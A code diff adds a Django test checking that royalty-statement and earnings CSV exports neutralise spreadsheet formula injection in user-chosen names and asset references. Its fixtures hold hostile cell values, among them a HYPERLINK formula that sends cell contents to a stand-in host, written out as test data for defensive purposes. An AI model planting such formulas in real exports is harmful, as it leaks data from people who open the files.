@@ -192,6 +192,35 @@ def test_statements_sum_to_the_cent_and_export_as_csv(world, login):
     assert social.get(reverse("brand-statement")).status_code == 404
 
 
+def test_statement_csvs_show_names_that_look_like_formulas_and_never_run_them(world, login):
+    """A talent's and a twin's names are theirs to choose; a brand's finance team opens the CSV
+    in a spreadsheet, which would run a cell that starts with = + - or @."""
+    world.talent_a.display_name = '=HYPERLINK("http://x.example/?"&A1,"Inès")'
+    world.talent_a.save()
+    world.twin_a.name = "@SUM(1+1)"
+    world.twin_a.save()
+    for brand, ref in ((world.brand_a, "-1+2"), (world.brand_b, "post-7")):
+        license = LicenseFactory(twin=world.twin_a, brand=brand, per_asset_fee=Decimal("10.00"))
+        usage_record(
+            license=license, asset_ref=ref, channel="web", markets=["DE"], used_on=date(2026, 6, 2)
+        )
+
+    def rows(client, url: str) -> list[list[str]]:
+        response = client.get(url, {"month": "2026-06", "format": "csv"})
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        return list(csv.reader(io.StringIO(response.content.decode())))
+
+    admin = login(world.user("brand-a", Role.BRAND_ADMIN))
+    _header, line, total = rows(admin, reverse("brand-statement"))
+    assert line[1:4] == ["Brand A", "'" + world.talent_a.display_name, "'@SUM(1+1)"]
+    assert line[6] == "'-1+2" and line[9] == total[9] == "10.00"
+    talent = login(world.talent_a.user)
+    earnings = rows(talent, reverse("talent-earnings", args=[world.talent_a.pk]))
+    assert [row[1] for row in earnings[1:-1]] == ["Brand A", "Brand B"]
+    assert {row[6] for row in earnings[1:-1]} == {"'-1+2", "post-7"}
+    assert earnings[-1][0] == "total" and earnings[-1][9:] == ["20.00", "EUR"]
+
+
 def test_license_pages_keep_a_flat_query_count(world, login, django_assert_max_num_queries):
     client = login(world.user("brand-a", Role.CREATIVE_DIRECTOR))
     world.talent_a.discoverable = True
